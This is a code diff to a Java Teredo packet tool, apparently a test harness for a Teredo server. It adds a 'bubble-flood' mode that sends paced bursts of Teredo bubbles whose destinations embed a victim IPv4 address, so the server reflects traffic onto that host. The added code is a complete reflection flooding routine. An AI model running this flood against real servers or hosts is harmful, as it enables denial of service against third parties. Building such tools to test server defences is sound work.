@@ -25,6 +25,10 @@ import java.util.List;
  *     Teredo datagrams whose IPv6 source is the Teredo address of LOCAL_IP:LOCAL_PORT with SERVER as
  *     its server (so the server's rule 5 accepts the source), towards the IPv6 DESTINATION; KIND is
  *     echo (ICMPv6 echo request), udp or tcp (a SYN), with PAYLOAD bytes after the upper-layer header.
+ * bubble-flood SERVER COUNT PER_SECOND PORTS VICTIM
+ *     Bubbles from a native source (2001:db8:66::1, accepted by the server's rule 6) from PORTS sockets of the
+ *     namespace's address, to Teredo addresses of SERVER's clients that all embed the IPv4 VICTIM, each with
+ *     another port: what the server forwards goes to VICTIM (a reflection aimed at one host, any port).
  * </pre>
  */
 public final class TeredoPacketTool {
@@ -57,6 +61,8 @@ public final class TeredoPacketTool {
             case "send" -> send(InetAddress.getByName(args[1]), InetAddress.getByName(args[2]),
                     Integer.parseInt(args[3]), InetAddress.getByName(args[4]), args[5], Integer.parseInt(args[6]),
                     Integer.parseInt(args[7]));
+            case "bubble-flood" -> bubbleFlood(InetAddress.getByName(args[1]), Integer.parseInt(args[2]),
+                    Integer.parseInt(args[3]), Integer.parseInt(args[4]), InetAddress.getByName(args[5]));
             default -> throw new IllegalArgumentException("unknown mode " + args[0]);
         }
     }
@@ -81,6 +87,33 @@ public final class TeredoPacketTool {
             }
             System.out.printf("sent %d router solicitations from %d sources in %d ms%n", count, sockets.size(),
                     (System.nanoTime() - start) / 1_000_000);
+        } finally {
+            sockets.forEach(DatagramSocket::close);
+        }
+    }
+
+    private static void bubbleFlood(InetAddress server, int count, int perSecond, int ports, InetAddress victim)
+            throws IOException, InterruptedException {
+        List<DatagramSocket> sockets = new ArrayList<>();
+        try {
+            for (int port = 0; port < ports; port++) {
+                sockets.add(new DatagramSocket());
+            }
+            byte[] source = InetAddress.getByName("2001:db8:66::1").getAddress();
+            List<byte[]> bubbles = new ArrayList<>();
+            for (int i = 0; i < 256; i++) {
+                byte[] destination = teredoAddress(server.getAddress(), victim.getAddress(), 1024 + i);
+                bubbles.add(ipv6(source, destination, 59, new byte[0]));
+            }
+            InetSocketAddress target = new InetSocketAddress(server, TEREDO_PORT);
+            long start = System.nanoTime();
+            for (int i = 0; i < count; i++) {
+                byte[] bubble = bubbles.get(i % bubbles.size());
+                sockets.get(i % sockets.size()).send(new DatagramPacket(bubble, bubble.length, target));
+                pace(start, i + 1, perSecond);
+            }
+            System.out.printf("sent %d bubbles towards %s from %d ports in %d ms%n", count, victim.getHostAddress(),
+                    sockets.size(), (System.nanoTime() - start) / 1_000_000);
         } finally {
             sockets.forEach(DatagramSocket::close);
         }
